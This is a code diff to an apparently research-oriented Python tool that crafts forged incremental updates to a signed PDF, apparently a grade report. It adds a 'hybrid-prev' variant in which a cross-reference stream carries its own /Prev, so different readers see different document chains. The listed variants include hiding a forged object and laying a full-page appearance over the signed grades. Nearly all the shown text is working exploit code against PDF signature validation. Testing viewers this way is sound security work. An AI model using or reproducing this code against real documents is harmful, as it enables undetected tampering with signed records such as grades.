@@ -16,6 +16,8 @@ sample docs/examples/hocba.pdf: catalog 1, page 3, content 4, fonts 5, 6):
   hybrid-free     hybrid update: the table frees the page content, its
                   /XRefStm keeps it, a forged "4 0 obj" hides in a stream
                   (a repairing viewer finds it)
+  hybrid-prev     hybrid update whose /XRefStm stream has a /Prev of its own
+                  (readers that follow it see another chain)
   widget-kid      a new widget whose /Parent is the signed signature field,
                   with a full-page appearance over the grades
   shared-sigdict  a new signature field whose /V is the signed signature
@@ -191,6 +193,21 @@ def craft(attack, data, pki):
                 b"stream\n" % (n, n + 2, len(rows)) + rows + b"\nendstream\nendobj\n")
         xr = len(out)
         out += b"xref\n4 1\n0000000000 00001 f \n%d 1\n%010d 00000 n \n" % (n + 1, u_off)
+        out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R /Prev %d /XRefStm %d >>\n"
+                b"startxref\n%d\n%%%%EOF\n" % (n + 2, last_startxref(data), xs_off, xr))
+        return bytes(out)
+    if attack == "hybrid-prev":
+        out = bytearray(data)
+        extra = n + 1
+        e_off = len(out)
+        out += b"%d 0 obj\nnull\nendobj\n" % extra
+        rows = b"\x01" + e_off.to_bytes(4, "big") + b"\x00"
+        xs_off = len(out)
+        out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Prev %d "
+                b"/Length %d >>\nstream\n" % (n, n + 2, extra, last_startxref(data), len(rows))
+                + rows + b"\nendstream\nendobj\n")
+        xr = len(out)
+        out += b"xref\n%d 1\n%010d 00000 n \n" % (n, xs_off)
         out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 7 0 R /Prev %d /XRefStm %d >>\n"
                 b"startxref\n%d\n%%%%EOF\n" % (n + 2, last_startxref(data), xs_off, xr))
         return bytes(out)
